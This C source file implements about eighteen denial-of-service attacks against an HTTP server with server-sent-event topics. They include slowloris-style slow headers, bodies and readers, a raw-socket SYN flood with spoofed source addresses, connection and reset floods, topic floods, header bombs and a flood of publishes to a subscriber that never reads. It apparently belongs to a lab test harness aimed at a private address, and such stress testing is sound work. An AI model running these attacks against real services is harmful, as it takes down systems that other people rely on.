/*
 * attacks: one function for each. See attacks.h.
 */
#include "attacks.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum {
	HELD_MAX = 10000,
	ROUNDS_HELD = 20, /* of one byte on each, 50 ms apart */
	NARROW = 256,     /* bytes to receive: the kernel makes the least of it that it can */
};

#define HOST "Host: a\r\n"

/* --- connections --- */

/* One of 65,000 addresses that the attackers' host has. */
static in_addr_t some_address(void)
{
	static unsigned last;

	return htonl(0x0a800000u + last++ % 65000 + 1);
}

static in_addr_t target_address(void)
{
	return inet_addr("10.66.0.1");
}

/* Connects from an address; -1 where it fails. rcvbuf: bytes, or 0 for the kernel's choice. */
static int connect_from(const struct target *target, in_addr_t from, int rcvbuf)
{
	struct sockaddr_in name = { .sin_family = AF_INET, .sin_addr.s_addr = from };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	if (rcvbuf)
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf));
	if (bind(fd, (struct sockaddr *)&name, sizeof(name)) == 0) {
		name.sin_port = htons(target->port);
		name.sin_addr.s_addr = target_address();
		if (connect(fd, (struct sockaddr *)&name, sizeof(name)) == 0)
			return fd;
	}
	close(fd);
	return -1;
}

static int connect_from_somewhere(const struct target *target, int rcvbuf)
{
	return connect_from(target, some_address(), rcvbuf);
}

static void say(int fd, const char *text)
{
	(void)!send(fd, text, strlen(text), MSG_NOSIGNAL | MSG_DONTWAIT);
}

static void hang_up(int *fds, int count)
{
	while (count > 0)
		close(fds[--count]);
}

/* Holds many connections that said text; one byte more on each, round by round. */
static void hold(const struct target *target, int count, const char *text, const char *byte,
		 int rcvbuf)
{
	static int fds[HELD_MAX];

	for (int i = 0; i < count; i++) {
		fds[i] = connect_from_somewhere(target, rcvbuf);
		say(fds[i], text);
	}
	for (int round = 0; round < ROUNDS_HELD; round++) {
		for (int i = 0; byte && i < count; i++)
			say(fds[i], byte);
		poll(NULL, 0, 50);
	}
	hang_up(fds, count);
}

/* --- slow ones --- */

void slow_heads(const struct target *target)
{
	hold(target, 1000, "GET / HTTP/1.1\r\n" HOST "X: ", "x", 0);
}

void slow_bodies(const struct target *target)
{
	hold(target, 1000, "GET / HTTP/1.1\r\n" HOST "Content-Length: 100000\r\n\r\n", "x", 0);
}

void slow_chunks(const struct target *target)
{
	hold(target, 1000, "GET / HTTP/1.1\r\n" HOST "Transfer-Encoding: chunked\r\n\r\n1;", "x",
	     0);
}

void silent_ones(const struct target *target)
{
	hold(target, HELD_MAX, "", NULL, 0);
}

void slow_readers(const struct target *target)
{
	hold(target, 500, "GET /sse/measure HTTP/1.1\r\n" HOST "\r\n", NULL, NARROW);
}

void pages_unread(const struct target *target)
{
	char text[4096] = "";

	for (int i = 0; i < 60; i++)
		strcat(text, "GET / HTTP/1.1\r\n" HOST "\r\n");
	hold(target, 500, text, NULL, NARROW);
}

/* --- half-open ones --- */

struct syn {
	struct {
		uint8_t version_ihl, tos;
		uint16_t length, id, fragment;
		uint8_t ttl, protocol;
		uint16_t checksum;
		in_addr_t from, to;
	} ip; /* RFC 791 */
	struct tcphdr tcp;
};

_Static_assert(sizeof(struct syn) == 40, "the headers as they go on the wire");

/* The sum of RFC 1071 over the TCP header and its pseudo header. */
static uint16_t tcp_checksum(const struct syn *syn)
{
	struct {
		in_addr_t from, to;
		uint16_t protocol, length;
		struct tcphdr tcp;
	} sum = { syn->ip.from, syn->ip.to, htons(IPPROTO_TCP), htons(sizeof(syn->tcp)), syn->tcp };
	uint16_t words[sizeof(sum) / 2];
	uint32_t total = 0;

	memcpy(words, &sum, sizeof(sum));
	for (size_t i = 0; i < sizeof(sum) / 2; i++)
		total += words[i];
	total = (total & 0xffff) + (total >> 16);
	return (uint16_t) ~(total + (total >> 16));
}

/* Beginnings of connections from hosts that never answer, each from another address and port. */
void half_open(const struct target *target)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = target_address() };
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	for (unsigned i = 0; i < HELD_MAX; i++) {
		struct syn syn = {
			.ip = { .version_ihl = 0x45,
				.ttl = 64,
				.protocol = IPPROTO_TCP,
				.from = htonl(0x0a810000u + (unsigned)rand() % 65000 + 1),
				.to = to.sin_addr.s_addr },
			.tcp = { .source = htons((uint16_t)(1024 + rand() % 60000)),
				 .dest = htons(target->port),
				 .seq = (uint32_t)rand(),
				 .doff = 5,
				 .syn = 1,
				 .window = htons(1024) },
		};

		syn.tcp.check = tcp_checksum(&syn);
		if (sendto(fd, &syn, sizeof(syn), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			break;
	}
	close(fd);
}

/* --- many of something --- */

void connections(const struct target *target)
{
	int fds[50];

	for (int i = 0; i < 50; i++)
		fds[i] = connect_from_somewhere(target, 0);
	hang_up(fds, 50);
}

void one_address(const struct target *target)
{
	int fds[50];

	for (int i = 0; i < 50; i++)
		fds[i] = connect_from(target, inet_addr("10.128.0.7"), 0);
	hang_up(fds, 50);
}

void resets(const struct target *target)
{
	static const char *const texts[] = { "", "GET / HT",
					     "GET /sse/measure HTTP/1.1\r\n" HOST "\r\n",
					     "GET / HTTP/1.1\r\n" HOST "\r\n",
					     "GET / HTTP/1.1\r\n" HOST
					     "Content-Length: 9\r\n\r\nx" };
	struct linger now = { 1, 0 };
	int fds[50];

	for (int i = 0; i < 50; i++) {
		fds[i] = connect_from_somewhere(target, 0);
		say(fds[i], texts[i % 5]);
		setsockopt(fds[i], SOL_SOCKET, SO_LINGER, &now, sizeof(now));
	}
	hang_up(fds, 50);
}

/* Thousands of topics, none of them for long. */
void many_topics(const struct target *target)
{
	static unsigned topic;
	static int fds[1000];

	for (int i = 0; i < 1000; i++) {
		char text[128];

		snprintf(text, sizeof(text),
			 "GET /sse?topic=t%u&topic=t%u HTTP/1.1\r\n" HOST "\r\n", topic, topic + 1);
		topic++;
		fds[i] = connect_from_somewhere(target, 0);
		say(fds[i], text);
	}
	hang_up(fds, 1000);
}

/* As many topics as fit into a target, all of them new. */
void long_lists(const struct target *target)
{
	static unsigned topic;
	char text[9000];
	int fds[20];

	for (int i = 0; i < 20; i++) {
		size_t n = (size_t)snprintf(text, sizeof(text), "GET /sse?topic=measures");

		while (n < 8170)
			n += (size_t)snprintf(text + n, sizeof(text) - n, "&topic=%x", topic++);
		snprintf(text + n, sizeof(text) - n, " HTTP/1.1\r\n" HOST "\r\n");
		fds[i] = connect_from_somewhere(target, 0);
		say(fds[i], text);
	}
	hang_up(fds, 20);
}

/* --- much of something --- */

/* Sends bytes on one connection as fast as they go, reading what comes back. */
static void pour(const struct target *target, const char *bytes, size_t n, int times)
{
	static char waste[65536];
	int fd = connect_from_somewhere(target, 0);

	for (int i = 0; i < times; i++) {
		struct pollfd ready = { .fd = fd, .events = POLLIN | POLLOUT };

		poll(&ready, 1, -1);
		if (ready.revents & POLLIN && recv(fd, waste, sizeof(waste), MSG_DONTWAIT) <= 0)
			break;
		if (ready.revents & POLLOUT &&
		    send(fd, bytes, n, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN)
			break;
	}
	close(fd);
}

void pipelined(const struct target *target)
{
	static const char one[] = "GET /healthz HTTP/1.1\r\n" HOST "\r\n";
	static char bytes[16384];
	size_t n = 0;

	for (; n + sizeof(one) < sizeof(bytes); n += sizeof(one) - 1)
		memcpy(bytes + n, one, sizeof(one) - 1);
	pour(target, bytes, n, 1000);
}

void rubbish(const struct target *target)
{
	static char bytes[16384];

	for (size_t i = 0; i < sizeof(bytes); i++)
		bytes[i] = (char)(i * 7 + i / 251);
	pour(target, bytes, sizeof(bytes), 1000);
}

void header_bombs(const struct target *target)
{
	static char bytes[16000];
	size_t n = (size_t)snprintf(bytes, sizeof(bytes), "GET / HTTP/1.1\r\n" HOST);

	for (int i = 0; i < 99; i++)
		n += (size_t)snprintf(bytes + n, sizeof(bytes) - n, "X-%0100d: %d\r\n", i, i);
	memcpy(bytes + n, "\r\n", 2);
	pour(target, bytes, n + 2, 1000);
}

/* A publisher at full speed, to a topic whose one subscriber never reads. */
void full_speed(const struct target *target)
{
	static char bytes[65536], waste[65536];
	struct sockaddr_un name = { .sun_family = AF_UNIX };
	int stuck = connect_from_somewhere(target, NARROW);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	size_t n = 0;

	say(stuck, "GET /sse/loud HTTP/1.1\r\n" HOST "\r\n");
	for (int i = 0; i < 30; i++)
		n += (size_t)snprintf(bytes + n, sizeof(bytes) - n,
				      "POST /publish/loud HTTP/1.1\r\n" HOST
				      "Content-Length: 1000\r\n\r\n%01000d",
				      i);
	strncpy(name.sun_path, target->control, sizeof(name.sun_path) - 1);
	if (connect(fd, (struct sockaddr *)&name, sizeof(name)) == 0)
		for (int i = 0; i < 1000 && send(fd, bytes, n, MSG_NOSIGNAL) > 0; i++)
			while (recv(fd, waste, sizeof(waste), MSG_DONTWAIT) > 0)
				continue;
	close(fd);
	close(stuck);
}
